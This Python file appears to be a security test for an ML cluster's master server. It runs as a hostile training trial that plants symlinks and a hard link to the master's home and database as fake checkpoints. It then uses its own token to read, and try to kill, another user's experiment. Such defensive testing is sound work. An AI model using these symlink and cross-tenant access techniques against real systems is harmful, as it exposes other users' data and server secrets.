"""A hostile trial, as an attacker's training code would be: it tries to make the master serve
the master's own files through its checkpoints, and reads another user's experiment with its
allocation's token. What the master answered to each request goes to ``hparams["out"]`` as JSON.

Hyperparameters: ``base`` (the experiment's checkpoint storage directory), ``home`` (the
master's home), ``victim`` (a checkpoint of another user's experiment), ``victim_exp`` (that
experiment), ``out``."""

from __future__ import annotations

import json
import os
import urllib.error
import urllib.request
import uuid

import assay

info = assay.get_cluster_info()
assert info is not None and info.trial is not None
master, token = os.environ["ASSAY_MASTER"], os.environ["ASSAY_TOKEN"]


def call(method: str, path: str, body: object = None) -> int:
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(master + path, data=data, method=method)
    req.add_header("Authorization", "Bearer " + token)
    if data is not None:
        req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req, timeout=30) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


with assay.core.init() as core:
    hp = info.trial.hparams
    base, home, victim, victim_exp = hp["base"], hp["home"], hp["victim"], hp["victim_exp"]
    os.makedirs(base, exist_ok=True)
    # A directory of the storage named after the master's home, registered by a plain name.
    os.symlink(home, os.path.join(base, "assay-home"))
    plain = call("POST", "/api/v1/checkpoints", {"uuid": "assay-home", "steps_completed": 1})
    # A checkpoint whose directory is a link to the master's home.
    linked = str(uuid.uuid4())
    os.symlink(home, os.path.join(base, linked))
    as_link = call("POST", "/api/v1/checkpoints", {"uuid": linked, "steps_completed": 2})
    # A real checkpoint directory holding a hard link to the master's database.
    hard = str(uuid.uuid4())
    os.makedirs(os.path.join(base, hard))
    os.link(os.path.join(home, "assay.db"), os.path.join(base, hard, "weights.bin"))
    with_hardlink = call("POST", "/api/v1/checkpoints", {"uuid": hard, "steps_completed": 3})
    own_exp = info.trial.experiment_id
    seen = {
        "plain": plain,
        "as_link": as_link,
        "with_hardlink": with_hardlink,
        "linked": linked,
        "hard": hard,
        # Reads of another user's experiment with this trial's token.
        "their checkpoint": call("GET", f"/api/v1/checkpoints/{victim}"),
        "their checkpoint's files": call("GET", f"/api/v1/checkpoints/{victim}/files"),
        "their experiment": call("GET", f"/api/v1/experiments/{victim_exp}"),
        "their experiment's checkpoints": call(
            "GET", f"/api/v1/experiments/{victim_exp}/checkpoints"
        ),
        "their best validation": call(
            "GET", f"/api/v1/experiments/{victim_exp}/searcher/best_validation"
        ),
        "their experiment killed": call("POST", f"/api/v1/experiments/{victim_exp}/kill"),
        "own best validation": call(
            "GET", f"/api/v1/experiments/{own_exp}/searcher/best_validation"
        ),
    }
    with open(hp["out"], "w") as out:
        json.dump(seen, out)
    for op in core.searcher.operations():
        core.train.report_validation_metrics(op.length, {"loss": 1.0})
        op.report_completed(1.0)
